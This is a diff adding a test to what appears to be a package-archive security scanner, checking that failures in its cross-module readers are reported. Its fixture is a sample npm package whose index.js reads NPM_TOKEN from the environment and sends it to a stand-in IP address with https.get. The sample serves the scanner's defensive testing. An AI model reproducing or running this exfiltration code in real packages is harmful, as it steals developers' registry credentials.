@@ -91,6 +91,33 @@ test('reader_failed: the entry file whose reader throws is MEDIUM (CAUTION), nev
   }
 });
 
+// A module read again with what its imports return (collector/follow.ts) goes through the same guard:
+// a throw there is reported, not swallowed into a lower score.
+const FOLLOWED = {
+  'package.json': pj(),
+  'index.js': "const token = require('./lib/token');\nconst https = require('https');\nhttps.get('https://198.51.100.9/x?t=' + token());\n",
+  'lib/token.js': 'module.exports = () => process.env.NPM_TOKEN;\n',
+};
+
+test('reader_failed: a follow-up read across modules that throws is reported on the file it was reading', async () => {
+  const seen = new Set<string>();
+  try {
+    injectReaderFault((reader) => {
+      if (reader.startsWith('js-flow (')) seen.add(reader);
+      return reader === 'js-flow (imports)' || reader === 'js-flow (exports)';
+    });
+    const a = await analyzeArchive(npmTgz(FOLLOWED), { kind: 'tgz', registry: 'npm', registryHosts: ['registry.example.org'] });
+    assert.ok(seen.size > 0, 'the follow-up readers ran through the guard');
+    const f = a.findings.filter((x) => x.ruleId === 'reader_failed');
+    assert.ok(f.some((x) => /js-flow \((imports|exports)\)/.test(x.message)), JSON.stringify(f));
+  } finally {
+    injectReaderFault(null);
+  }
+  // Honest run: nothing throws, nothing is reported.
+  const b = await analyzeArchive(npmTgz(FOLLOWED), { kind: 'tgz', registry: 'npm', registryHosts: ['registry.example.org'] });
+  assert.not.ok(b.findings.some((x) => x.ruleId === 'reader_failed'));
+});
+
 test('reader_failed: Python, the import-time module whose parser throws; a runtime module only a note', async () => {
   const v = sdist('quiet-cfg', {
     'quiet_cfg/__init__.py': 'from .core import load\n',
